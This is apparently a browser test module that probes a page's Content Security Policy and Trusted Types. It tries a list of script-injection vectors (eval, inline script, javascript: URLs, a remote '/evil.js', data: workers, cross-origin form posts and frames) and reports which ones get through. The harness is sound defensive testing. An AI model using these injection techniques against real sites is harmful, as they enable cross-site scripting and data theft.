// Tries to get past the policy: each attack answers whether it had its way, at once or a moment later.
// `bad` is what injected script would set.
export default async function attack(elsewhere) {
  const seen = [];
  document.addEventListener('securitypolicyviolation', event => seen.push(event.effectiveDirective));
  const add = (tag, props) => Object.assign(document.createElement(tag), props);
  const attacks = {
    markup: () => { document.body.insertAdjacentHTML('beforeend', '<i id=bad1></i>'); return !!document.getElementById('bad1'); },
    inner: () => { const p = add('p'); p.innerHTML = '<b>x</b>'; return p.childElementCount > 0; },
    eval: () => (0, eval)('true'),
    maker: () => new Function('return true')(),
    timer: () => { setTimeout('window.bad = 1'); return false; },
    inline: () => { document.head.append(add('script', {text: 'window.bad = 1'})); return false; },
    remote: () => { document.head.append(add('script', {src: elsewhere + '/evil.js'})); return false; },
    handler: () => { const b = add('button'); b.setAttribute('onclick', 'window.bad = 1'); document.body.append(b); b.click(); return false; },
    scheme: () => { const a = add('a', {href: 'javascript:window.bad = 1'}); document.body.append(a); a.click(); return false; },
    fetch: () => fetch(elsewhere + '/').then(() => true),
    worker: () => { new Worker('data:text/javascript,postMessage(1)'); return true; },
    policy: () => { trustedTypes.createPolicy('other', {createHTML: x => x}); return true; },
    again: () => { trustedTypes.createPolicy('default', {createHTML: x => x}); return true; },
    frame: () => new Promise(done => { const f = add('iframe', {src: elsewhere + '/'}); f.onload = () => {
      done(false); }; document.body.append(f); setTimeout(() => done(false), 500); }),
    form: () => { const f = add('form', {action: elsewhere + '/', method: 'post', target: 'away'}); document.body.append(f); f.submit(); return false; },
    base: () => { document.head.append(add('base', {href: elsewhere + '/'})); return document.baseURI.startsWith(elsewhere); },
    style: () => { const p = add('p'); p.setAttribute('style', 'color: rgb(1, 2, 3)'); document.body.append(p); return getComputedStyle(p).color === 'rgb(1, 2, 3)'; },
    sheet: () => { document.head.append(add('style', {textContent: 'body { color: rgb(1, 2, 3) }'})); return getComputedStyle(document.body).color === 'rgb(1, 2, 3)'; },
    image: () => new Promise(done => { const i = add('img', {src: elsewhere + '/icon.svg'}); i.onload = () => done(true); i.onerror = () => done(false); }),
  };
  const through = [];
  for (const [name, one] of Object.entries(attacks)) {
    try { if (await one()) through.push(name); } catch {}
  }
  await new Promise(done => setTimeout(done, 500));
  if (window.bad) through.push('script');
  // The control: what is allowed works, and `window.bad` would be seen.
  const mine = (await fetch('/app/app.css')).ok;
  return {through, seen: [...new Set(seen)].sort(), mine, count: Object.keys(attacks).length};
}
